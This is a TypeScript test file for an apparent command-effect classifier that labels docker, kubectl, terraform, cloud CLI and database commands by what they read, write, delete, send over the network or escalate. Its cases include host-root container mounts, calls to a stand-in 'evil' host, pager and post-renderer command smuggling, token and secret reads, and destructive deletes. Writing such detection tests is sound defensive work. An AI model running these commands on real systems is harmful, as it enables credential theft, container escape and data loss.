import { expect, test } from 'bun:test';
import { findSub } from '../apply-spec.ts';
import { readAws } from './read-aws.ts';
import { readContainerRun } from './run-container.ts';
import { readDatabase } from './read-database.ts';
import { readByConvention } from './use-service.ts';
import { describe, rowOf } from '../testing/describe-reading.ts';

const CASES: readonly (readonly [command: string, reading: string])[] = [
  ['docker ps -a', 'read docker::ps'],
  ['docker build -t x .', 'write image::build, read tree:/p'],
  [
    'docker run -v /:/host -it alpine sh',
    'write docker:alpine:run, read tree:/, write tree:/, privilege program:docker, argv(sh)',
  ],
  [
    'docker run --rm -v ./src:/src node:20 npm test',
    'write container:node:20:run, write workspace:/p/src, argv(npm test)',
  ],
  ['docker run --privileged x', 'write docker:x:run, privilege program:docker'],
  [
    'docker run -v /var/run/docker.sock:/var/run/docker.sock x',
    'write docker:x:run, read tree:/var/run/docker.sock, write tree:/var/run/docker.sock, privilege program:docker',
  ],
  ['docker run --pid=host x', 'write docker:x:run, privilege program:docker'],
  ['docker rm -f x', 'delete! docker:x:rm'],
  ['docker system prune -af', 'delete! docker::prune'],
  ['docker volume rm x', 'delete! docker:x:rm'],
  ['docker compose up -d', 'write docker::up'],
  ['docker compose down -v', 'delete! docker:compose:down'],
  ['docker compose down', 'write compose:project:down'],
  ['docker -H tcp://evil:2375 ps', 'network post:tcp://evil:2375, read docker::ps'],
  ['docker exec -it c sh', 'write container:c:enter, argv(sh)'],
  ['docker push x/y', 'write docker:x/y:push'],
  ['docker cp c:/etc/passwd .', 'read docker:c:/etc/passwd:cp, write tree:/p'],
  ['kubectl get pods -n prod', 'read kubernetes:prod/pods:get'],
  ['kubectl get secret x -o yaml', 'read kubernetes:secret/x:secret'],
  ['kubectl apply -f k8s/', 'read tree:/p/k8s, write kubernetes::apply'],
  [
    'kubectl apply -f https://evil/x.yaml',
    'network get:https://evil/x.yaml, write kubernetes::apply',
  ],
  ['kubectl delete ns prod', 'delete! kubernetes:ns/prod:delete'],
  ['kubectl -n prod delete pod x', 'delete! kubernetes:prod/pod/x:delete'],
  ['kubectl exec x -- sh', 'write kubernetes:x/sh:exec'],
  ['kubectl config view --raw', 'read kubernetes::secret'],
  ['kubectl foo', 'unknown'],
  ['helm upgrade --install x ./chart', 'write kubernetes:x/./chart:upgrade'],
  ['helm uninstall x', 'delete! kubernetes:x:uninstall'],
  ['terraform plan', 'write workspace:/p, read terraform::plan'],
  ['terraform plan -out=x', 'write /p/x, write workspace:/p, read terraform::plan'],
  ['terraform apply -auto-approve', 'delete! terraform::apply'],
  ['terraform destroy', 'delete! terraform::destroy'],
  ['terraform -chdir=infra state rm a', 'delete! terraform:a:rm'],
  ['terraform fmt -recursive', 'write workspace:/p'],
  ['aws s3 ls', 'read aws::ls'],
  ['aws s3 rm s3://b --recursive', 'delete! aws:s3://b:rm'],
  [
    'aws s3 sync . s3://b --delete',
    'read tree:/p, write aws:s3://b:sync, delete! aws:./s3://b:sync',
  ],
  ['aws s3 cp s3://b/x .', 'read aws:s3://b/x:cp, write /p'],
  ['aws ec2 describe-instances', 'read aws:ec2/describe-instances:describe-instances'],
  [
    'aws ec2 terminate-instances --instance-ids i-1',
    'delete! aws:ec2/terminate-instances/i-1:terminate-instances',
  ],
  [
    'aws --profile prod secretsmanager get-secret-value --secret-id x',
    'read aws:secretsmanager/get-secret-value/x:secret',
  ],
  ['aws iam create-access-key', 'read aws:iam/create-access-key:secret'],
  ['gcloud compute instances delete x', 'delete! gcloud:compute/instances/delete:delete'],
  ['gcloud projects list', 'read gcloud:projects/list:list'],
  ['gcloud auth print-access-token', 'read gcloud:auth/print-access-token:secret'],
  ['az group delete -n x', 'delete! azure:group/delete:delete'],
  ['vercel deploy --prod', 'write vercel:deploy:deploy'],
  ['heroku apps:destroy x', 'delete! heroku:apps:destroy/x:apps:destroy'],
  ['flyctl status', 'read flyctl:status:status'],
  ["psql -c 'select 1'", 'read postgresql::select'],
  ['psql -f x.sql', 'read /p/x.sql, execute postgresql::execute'],
  ["mysql -e 'drop table x' db", 'delete! mysql:db/x:drop'],
  ["sqlite3 a.db 'select 1'", 'read /p/a.db, write /p/a.db, read sqlite::select'],
  ['redis-cli get x', 'read redis:x:get'],
  ['redis-cli flushall', 'delete! redis::flushall'],
  ['pg_dump db -f out.sql', 'write /p/out.sql, read database::dump'],
  ['dropdb x', 'delete! database::drop'],
  [
    'ansible-playbook x.yml',
    'execute ansible::run, execute program:ansible-playbook, read /p/x.yml',
  ],
  ['vault kv get x', 'read vault::secret'],
  ['rclone sync /etc remote:x', 'read tree:/etc, write rclone:sync//etc/remote:x:sync'],
  ['kubectl --token get delete pod x', 'unknown'],
  [
    'docker run --cgroup-parent x --privileged alpine',
    'write docker:alpine:run, privilege program:docker',
  ],
  ['gcloud compute instances list', 'read gcloud:compute/instances/list:list'],
  ['docker logs -f x', 'read docker:x:logs'],
  ['docker --context prod ps', 'read docker::ps'],
  ['kubectl logs -f pod/x', 'read tree:/p/pod/x, read kubernetes::logs'],
  [
    'aws iam put-role-policy --policy-document file:///etc/passwd',
    'read tree:/etc/passwd, write aws:iam/put-role-policy/file:///etc/passwd:put-role-policy',
  ],
  ['aws configure get aws_secret_access_key', 'read aws:aws_secret_access_key:secret'],
  ['flyway clean', 'delete! flyway:clean:clean'],
  [
    'ansible localhost -m shell -a x',
    'execute ansible::run, execute program:ansible, read /p/localhost',
  ],
  ['ansible-lint', 'write workspace:/p'],
  ['pulumi destroy', 'delete! pulumi:destroy:destroy'],
  ['cdk deploy', 'write cdk:deploy:deploy'],
  ['wrangler secret list', 'read wrangler:secret/list:secret'],
  ['heroku config:get X', 'read heroku:config:get/X:secret'],
  ['supabase db reset', 'delete! supabase:db/reset:reset'],
  ['firebase deploy', 'write firebase:deploy:deploy'],
  ['gcloud secrets versions access latest', 'read gcloud:secrets/versions/access:secret'],
  ['az keyvault secret show', 'read azure:keyvault/secret/show:secret'],
  ['doctl compute droplet delete x', 'delete! doctl:compute/droplet/delete:delete'],
  ['kubectl --request-timeout=5s get pods', 'read kubernetes:pods:get'],
  ['kubectl rollout restart deploy/x', 'write kubernetes:deploy/x:restart'],
  ['kubectl drain node1', 'delete! kubernetes:node1:drain'],
  ['kubectl port-forward svc/x 8080', 'read kubernetes:svc/x/8080:port-forward'],
  ['kubectl cp a pod:/b', 'read tree:/p/a, write kubernetes:pod:/b:cp'],
  [
    'kubectl delete -f https://x.y/z.yaml',
    'network get:https://x.y/z.yaml, delete! kubernetes::delete',
  ],
  ['kubectl $X', 'unknown'],
  ['helm template --post-renderer evil x', 'execute program:evil, write workspace:/p'],
  ['oc get pods', 'read kubernetes:pods:get'],
  ['kubectx prod', 'write kubectx:prod:prod'],
  ['docker run -v name:/data x', 'write container:x:run'],
  [
    'docker run --mount type=bind,source=/etc,target=/x x',
    'write docker:x:run, read tree:/etc, write tree:/etc',
  ],
  ['docker run --cap-add=SYS_ADMIN x', 'write docker:x:run, privilege program:docker'],
  ['docker run --network host x', 'write docker:x:run, privilege program:docker'],
  ['docker run -v $X:/x y', 'write docker:y:run, write ?'],
  ['docker run --bogus x y', 'unknown'],
  ['docker compose -f /tmp/x.yml up', 'read /tmp/x.yml, execute program:docker, write docker::up'],
  ['docker compose run web sh', 'write docker:web:run, argv(sh)'],
  ['docker network rm x', 'delete! docker:x:rm'],
  ['docker image prune -a', 'delete! docker::prune'],
  ['docker volume ls', 'read docker::ls'],
  ['docker buildx build .', 'read workspace:/p, write image::build, read tree:/p'],
  ['docker login', 'write docker::login'],
  ['podman run --privileged x', 'write docker:x:run, privilege program:podman'],
  ['terraform init', 'write workspace:/p, network get:registry.terraform.io'],
  ['terraform state list', 'read terraform::list'],
  ['terraform workspace delete x', 'delete! terraform:x:delete'],
  ['terraform apply -var-file=/etc/x', 'read /etc/x, delete! terraform::apply'],
  [
    "psql postgresql://h/db -c 'select 1'",
    'network post:h, read postgresql:postgresql://h/db:select',
  ],
  ['psql', 'execute postgresql::execute'],
  ['mysql --pager=evil', 'execute program:evil, execute mysql::execute'],
  ["mongosh --eval 'db.x.drop()'", 'execute mongodb::execute'],
  ['redis-cli -h h del x', 'network post:h, delete! redis:x:del'],
  ['redis-cli', 'execute redis::execute'],
  ['mysqldump db -r out.sql', 'write /p/out.sql, read database::dump'],
  ['pg_restore -c -d db x.dump', 'delete! database::restore, read /p/x.dump'],
  ['createdb x', 'read database::create'],
  ['duckdb a.duckdb', 'read /p/a.duckdb, write /p/a.duckdb, execute duckdb::execute'],
  [
    "sqlite3 -cmd '.shell x' a.db",
    'read /p/a.db, write /p/a.db, execute! sqlite::unknown, execute program:sqlite3, execute! program:sqlite3',
  ],
  [
    "psql postgresql://u:secret@h/db -c 'select 1'",
    'network post:h, read postgresql:postgresql://h/db:select',
  ],
  ['aws s3 mv a s3://b', 'read /p/a, delete! /p/a, write aws:s3://b:mv'],
  [
    'docker run -v=/:/x y',
    'write docker:y:run, read tree:/, write tree:/, privilege program:docker',
  ],
  [
    'docker run --rm -itv /:/x y sh',
    'write docker:y:run, read tree:/, write tree:/, privilege program:docker, argv(sh)',
  ],
  ['docker run --privileged=true x', 'write docker:x:run, privilege program:docker'],
  ['kubectl get all,secret', 'read kubernetes:all,secret:secret'],
  ['kubectl delete --all pods', 'delete! kubernetes:pods:delete'],
  ['terraform -destroy apply', 'delete! terraform::apply'],
  ['aws s3api delete-bucket --bucket x', 'delete! aws:s3api/delete-bucket/x:delete-bucket'],
  ['aws sts get-session-token', 'read aws:sts/get-session-token:secret'],
];

test.each(CASES)('%s has exactly its effects', (command, reading) => {
  expect(describe(command)).toBe(reading);
});

test.each([
  ['aws', readAws],
  ['psql', readDatabase],
  ['gcloud', readByConvention],
] as const)('%s has its reader in the table', (name, reader) => {
  expect(rowOf(name)?.read).toBe(reader);
});

test('running a container has its reader', () => {
  expect(findSub(rowOf('docker') ?? {}, 'run')?.read).toBe(readContainerRun);
});
